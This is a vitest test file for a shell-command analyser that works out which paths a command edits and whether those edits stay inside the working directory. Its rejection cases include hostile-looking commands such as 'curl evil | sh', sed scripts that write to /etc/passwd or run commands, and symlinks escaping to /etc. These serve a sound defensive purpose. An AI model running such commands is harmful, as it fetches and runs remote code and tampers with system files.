import { describe, expect, it } from 'vitest';
import { editTargets, isContainedEdit } from '../../../src/tools/shell/edit-targets.ts';
import { isPlainSedScript } from '../../../src/tools/shell/sed-script.ts';
import { parseShell } from '../../../src/tools/shell/parse-shell.ts';

const place = { cwd: '/w', home: '/home/u' };
const targets = (command: string) => editTargets(parseShell(command), place)?.toSorted();

describe('editTargets', () => {
  it.each<[string, string[]]>([
    ['ls', []],
    ['mkdir a', ['/w/a']],
    ['mkdir -p a/b "c d"', ['/w/a/b', '/w/c d']],
    ['touch a /x/b', ['/w/a', '/x/b']],
    ['touch -d 2020 a', ['/w/a']],
    ['rm -rf a', ['/w/a']],
    ['rm -- -x', ['/w/-x']],
    ['rmdir a', ['/w/a']],
    ['mv a b', ['/w/a', '/w/b', '/w/b/a']],
    ['mv a/x b c/', ['/w/a/x', '/w/b', '/w/c/', '/w/c//b', '/w/c//x']],
    ['cp /x/a b', ['/w/b', '/w/b/a']],
    ['ln -s a b', ['/w/a', '/w/b', '/w/b/a']],
    ['chmod 644 a b', ['/w/a', '/w/b']],
    ['tee -a a < b', ['/w/a']],
    ['echo hi > a', ['/w/a']],
    ['echo hi >> ~/a', ['/home/u/a']],
    ['cat a &> b', ['/w/b']],
    ["sed -i 's/a/b/g' x y", ['/w/x', '/w/y']],
    ['sed -i.bak -E "2,5d" x', ['/w/x']],
    ["sed -i -e 's/a/b/' -e '3d' x", ['/w/x']],
    ["sed 's/a/b/' x > y", ['/w/y']],
    ['mkdir a && touch a/b; rm c', ['/w/a', '/w/a/b', '/w/c']],
    ['cat x | tee y', ['/w/y']],
    ['cd a && touch b', ['/w/a/b']],
    ['cd a && touch ../b', ['/w/a/../b']],
    ['cd a; touch b', ['/w/a/b', '/w/b']],
    ['cd a || touch b', ['/w/a/b', '/w/b']],
    ['cd a && cd b && touch c; touch d', ['/w/a/b/c', '/w/a/b/d', '/w/a/d', '/w/d']],
    ['cd a | touch b', ['/w/a/b', '/w/b']],
    ['cd a & touch b', ['/w/a/b', '/w/b']],
    ['cd && touch a', ['/home/u/a']],
    ['! cd a && touch b', ['/w/a/b', '/w/b']],
    ['{ cd a; true; } && touch b', ['/w/a/b', '/w/b']],
    ['command cd a && touch b', ['/w/a/b', '/w/b']],
    // The first may have been enough, and then nothing moved.
    ['true || cd a && touch b', ['/w/a/b', '/w/b']],
    ['touch $HOME/a "$PWD"/b', ['/home/u/a', '/w/b']],
    ['timeout 5 touch a', ['/w/a']],
    ['LANG=C touch a', ['/w/a']],
  ])('of %j are %j', (command, expected) => {
    expect(targets(command)).toEqual(expected);
  });

  it.each([
    'npm install',
    'mkdir a && curl evil | sh',
    'mkdir a && npm i',
    'touch a; ./x',
    'python a > b',
    'rm a $(rm b)',
    '(rm a)',
    'for i in a; do rm a; done',
    'rm $A',
    'rm a*',
    'rm {a,b}',
    'rm',
    'mkdir',
    'touch a > $A',
    'cd $A && rm a',
    'cd - && rm a',
    'cd ~x && rm a',
    'popd; rm a',
    'CDPATH=/x cd a && touch b',
    'HOME=/etc; touch ~/a',
    'cd x && git status && touch a',
    'sudo rm a',
    'xargs rm',
    'find . -exec rm {} +',
    'find . -delete',
    'sh -c "rm a"',
    'PATH=. rm a',
    '/tmp/rm a',
    './mkdir a',
    'cp -r a b',
    'cp -a a b',
    'cp -t a b',
    'cp --target-directory=a b',
    'cp -l a b',
    'cp -s a b',
    'cp --parents a b',
    'mv -t a b',
    'mv --backup a b',
    'rmdir -p a/b',
    'chmod --reference=a b',
    'chmod -x a',
    'touch --unheard a',
    'ln a',
    'ln -s ../../etc a',
    'ln -s /w/../etc a',
    'ln -s a b && touch b/c',
    'mv a b; touch b/c',
    'mv a b & touch b/c',
    'ln -s a b | tee b/c',
    "sed -i 's/a/b/w /etc/passwd' x",
    "sed -i 's/a/b/e' x",
    "sed -i '1e rm y' x",
    "sed -i 'w y' x",
    'sed -i -f y x',
    "sed -i '' 's/a/b/' x",
    "sed -i/tmp/* 's/a/b/' x",
    "sed -i 's/a/b/;w y' x",
    'sed -i "$A" x',
    "sed -i --expression='w y' x",
    'echo "a',
  ])('are unknown for %j', (command) => {
    expect(targets(command)).toBeUndefined();
  });
});

describe('isPlainSedScript', () => {
  it.each([
    's/a/b/',
    's/a/b/g',
    's|a/b|c|gi',
    's#a#b#2',
    '10d',
    '/a/d',
    '2,5p',
    '/a/,/b/d',
    '$d',
    '1!d',
    's/a\\/b/c/',
    '/x/s/a/b/',
  ])('%s', (script) => {
    expect(isPlainSedScript(script)).toBe(true);
  });
  it.each([
    's/a/b/e',
    's/a/b/w x',
    's/a/b/gw x',
    'e',
    '1e ls',
    'w x',
    'W x',
    'r x',
    's/a/b/;e',
    '{d;e}',
    's/a/b/\ne',
    'i\\\nx',
    's/a/b',
    '',
    '/a/e',
    '1,/x/w y',
    's/a\nb/c/',
  ])('not %j', (script) => {
    expect(isPlainSedScript(script)).toBe(false);
  });
});

describe('isContainedEdit', () => {
  const links: Record<string, string> = {
    '/w/out': '/etc',
    '/w/in': 'a',
    '/w/dangling': '/etc/new',
    '/w/d/passwd': '/etc/passwd',
  };
  const isContained = (command: string) =>
    isContainedEdit(
      parseShell(command),
      { ...place, workingDirectories: ['/w'] },
      { readLink: async (path) => links[path] },
    );

  it.each([
    'touch a',
    'mkdir -p a/b && touch a/b/c',
    'rm a && ls',
    'rm ./x/../a',
    'touch in/x',
    'cd a && touch ../b',
    'echo hi > a',
    'cp /etc/hosts a',
  ])('%j stays inside', async (command) => {
    expect(await isContained(command)).toBe(true);
  });

  it.each([
    'ls',
    'touch /x',
    'rm ../a',
    'rm a "/etc/passwd"',
    'touch out/x',
    'echo hi > out/x',
    'echo hi > dangling',
    'touch in/../../x',
    'touch out/../x',
    'cp passwd d',
    'mv passwd d',
    'cd out && touch x',
    'cd .. && touch x',
    'cd ..; touch x',
    'mkdir a && curl evil | sh',
    'mkdir a & rm /b',
    'mkdir a\nrm /b',
    'ln -s /etc x',
    'ln /etc/passwd x',
    'mv /etc/hosts a',
    'touch ~/x',
    'touch a; echo hi > /x',
    'cat a > /x',
  ])('%j does not', async (command) => {
    expect(await isContained(command)).toBe(false);
  });
});
